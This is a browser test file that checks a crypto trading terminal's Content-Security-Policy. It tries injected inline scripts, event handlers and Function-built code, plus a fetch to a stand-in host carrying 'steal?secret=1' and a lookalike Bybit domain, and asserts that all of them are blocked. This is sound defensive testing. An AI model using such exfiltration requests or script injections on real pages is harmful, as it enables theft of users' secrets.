/**
 * The Content-Security-Policy of the built page, in a real browser.
 */
import { afterAll, afterEach, assert, beforeAll, it } from "vitest"
import { form, placeOrder, tab } from "./person.js"
import { type Opened, start, type Terminal } from "./terminal.js"

let terminal: Terminal
let opened: Opened
beforeAll(async () => {
  terminal = await start()
})
afterAll(() => terminal?.close())
afterEach(() => opened.context.close())

it("allows everything that the terminal does", async () => {
  opened = await terminal.open()
  const { page } = opened
  await placeOrder(page, { side: "Buy", size: "0.01" })
  await tab(page, /^Positions/).click()
  await page.getByRole("button", { name: "Close BTCUSDT" }).click()
  const dialog = page.getByRole("dialog", { name: "Close long BTCUSDT" })
  await dialog.getByLabel("Size to close").waitFor()
  await page.keyboard.press("Escape")
  await dialog.waitFor({ state: "detached" })
  // A list of options, a dialog with a slider, the settings and the venues.
  await form(page).getByRole("radio", { name: "Limit", exact: true }).click()
  await form(page).getByRole("combobox", { name: "Time in force" }).click()
  await page.getByRole("option", { name: /^Post only/ }).click()
  for (const name of [/^Settings/, "Confirmation and shortcuts"]) {
    await page.getByRole("button", { name }).click()
    await page.keyboard.press("Escape")
  }
  const handle = page.getByRole("separator").first()
  const box = await handle.boundingBox()
  assert.isNotNull(box)
  await page.mouse.move((box?.x ?? 0) + (box?.width ?? 0) / 2, (box?.y ?? 0) + (box?.height ?? 0) / 2)
  await page.mouse.down()
  await page.mouse.move((box?.x ?? 0) - 30, (box?.y ?? 0) + 30, { steps: 4 })
  await page.mouse.up()
  assert.deepEqual(opened.errors, [])
})

it("blocks scripts and styles from elsewhere, connections to other hosts, and code from text", async () => {
  opened = await terminal.open()
  const { page } = opened
  const found = await page.evaluate(async () => {
    const blocked: Array<string> = []
    document.addEventListener("securitypolicyviolation", ({ effectiveDirective }) => blocked.push(effectiveDirective))
    const add = (tag: string, attributes: Record<string, string>, text = "") => {
      const element = document.createElement(tag)
      for (const [name, value] of Object.entries(attributes)) element.setAttribute(name, value)
      element.textContent = text
      document.body.append(element)
    }
    const global = globalThis as { ran?: boolean }
    add("script", {}, "globalThis.ran = true")
    add("script", { src: "https://other.invalid/a.js" })
    add("style", {}, "body { color: red }")
    add("p", { style: "color: red" })
    add("iframe", { src: "https://other.invalid/" })
    add("button", { onclick: "globalThis.ran = true" })
    document.querySelector<HTMLElement>("button[onclick]")?.click()
    // The first task of an evaluation from outside may evaluate text.
    await new Promise((resolve) => setTimeout(resolve, 50))
    let evaluated = true
    try {
      Reflect.construct(Function, ["globalThis.ran = true"])()
    } catch {
      evaluated = false
    }
    const reach = (url: string) =>
      fetch(url, { mode: "no-cors" }).then(
        () => "reached",
        () => "failed"
      )
    await reach("https://other.invalid/steal?secret=1")
    await reach("https://api.bybit.com.other.invalid/")
    try {
      new WebSocket("wss://other.invalid/")
    } catch {}
    // The gateway's address and the exchange's hosts are allowed, though nothing answers here.
    await reach("http://127.0.0.1:1/live/v5/market/time")
    await reach("https://api-testnet.bybit.com/v5/market/time")
    // Reports come later than the failures.
    await new Promise((resolve) => setTimeout(resolve, 2000))
    return { blocked, evaluated, ran: global.ran === true }
  })
  assert.isFalse(found.ran)
  assert.isFalse(found.evaluated)
  const count = (name: string) => found.blocked.filter((one) => one === name).length
  assert.equal(count("connect-src"), 3)
  assert.isAtLeast(count("script-src-elem"), 2)
  assert.isAtLeast(count("script-src-attr"), 1)
  assert.isAtLeast(count("style-src-elem"), 1)
  assert.isAtLeast(count("style-src-attr"), 1)
  assert.isAtLeast(count("frame-src"), 1)
})

it("is strict", async () => {
  opened = await terminal.open({ live: false })
  const policy = await opened.page.locator('meta[http-equiv="Content-Security-Policy"]').getAttribute("content")
  assert.include(policy, "default-src 'none'")
  assert.notMatch(policy ?? "", /unsafe-|\*(?![;\s]|$)|https:(?!\/)|data:.*script/)
  assert.match(policy ?? "", /script-src 'self';/)
})
